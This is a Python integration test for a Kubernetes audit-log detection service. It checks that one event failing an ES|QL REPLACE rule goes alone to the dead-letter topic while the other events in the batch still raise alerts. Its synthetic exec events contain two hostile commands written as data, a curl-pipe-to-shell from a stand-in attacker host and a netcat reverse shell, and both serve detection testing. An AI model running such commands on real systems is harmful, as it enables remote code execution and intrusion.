"""One event of a webhook ``EventList`` that a rule cannot evaluate: that event alone reaches the
dead-letter topic (``auditstream.dlq.entry`` naming its item), the others' alerts still arrive.

The failure is a real ES|QL one, not a planted defect: ``REPLACE`` with a replacement read from
the event, where a ``$n`` naming a group the regex does not have fails the whole query in
Elasticsearch (``IndexOutOfBoundsException``, see :mod:`auditstream.detections.regex.java.pattern`
and docs/esql-semantics.md); here it fails the rule's evaluation of that event.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from devtools.jvm.process import wait_until
from devtools.traffic.synthetic import as_event_list, exec_audit_events
from tests.integration.service.conftest import Deployment, StartInProcess

pytestmark = pytest.mark.integration

RULE_ID = "00000000-0000-4000-8000-0000000000e1"
REPLACING_RULE = f"""
[rule]
rule_id = "{RULE_ID}"
name = "Exec tagged with its client"
description = "REPLACE whose replacement is the event's user agent."
severity = "low"
risk_score = 1
language = "esql"
type = "esql"
query = '''
FROM logs-kubernetes.audit_logs-*
| WHERE kubernetes.audit.objectRef.subresource == "exec"
| EVAL tagged = REPLACE(kubernetes.audit.requestURI, "(/exec)", kubernetes.audit.userAgent)
| WHERE tagged IS NOT NULL
'''
"""


def test_a_bad_event_of_an_event_list_does_not_take_the_others_alerts(
    deployment: Deployment, in_process: StartInProcess, tmp_path: Path
) -> None:
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "replacing.toml").write_text(REPLACING_RULE)
    first = exec_audit_events(
        command=("sh", "-c", "curl -fsSL https://evil.example/x.sh | sh"), audit_id="exec-first"
    )[0]
    bad = exec_audit_events(command=("ls",), audit_id="exec-bad", user_agent="kubectl/$7")[0]
    third = exec_audit_events(
        command=("nc", "-e", "/bin/sh", "203.0.113.7", "4444"), audit_id="exec-third"
    )[0]
    batch = json.dumps(as_event_list([first, bad, third])).encode()
    deployment.produce([batch], keys=[b"webhook-1"], headers=[[("origin", b"webhook")]])

    running = in_process(deployment.env(rules=str(rules)))
    ends = {p: end for p, end in deployment.input_ends().items() if end}  # one partition has it
    wait_until(
        lambda: {p: deployment.committed().get(p) for p in ends} == ends, timeout=60,
        what=f"the batch's offset committed {ends}", alive=running.check_alive, interval=0.5,
    )  # fmt: skip
    assert running.stop() == 0

    alerts = [json.loads(m.value()) for m in deployment.alerts()]
    by_event: dict[str, set[str]] = {}
    for alert in alerts:
        by_event.setdefault(alert["event"]["audit_id"], set()).add(alert["rule"]["id"])
    assert set(by_event) == {"exec-first", "exec-third"}
    assert all(RULE_ID in fired for fired in by_event.values())  # the rule works elsewhere
    assert len(by_event["exec-first"]) > 1  # and the built-in rules fired too

    (letter,) = deployment.dead_letters()
    assert letter.key() == b"webhook-1"
    headers = letter.headers() or []
    assert headers[0] == ("origin", b"webhook")
    ours = dict(headers[1:])
    assert ours["auditstream.dlq.reason"] == b"evaluation_error"
    assert ours["auditstream.dlq.entry"] == b"1"
    assert b"ReplacementError" in ours["auditstream.dlq.detail"]
    event = json.loads(letter.value())
    assert event["auditID"] == "exec-bad"
    assert event["userAgent"] == "kubectl/$7"
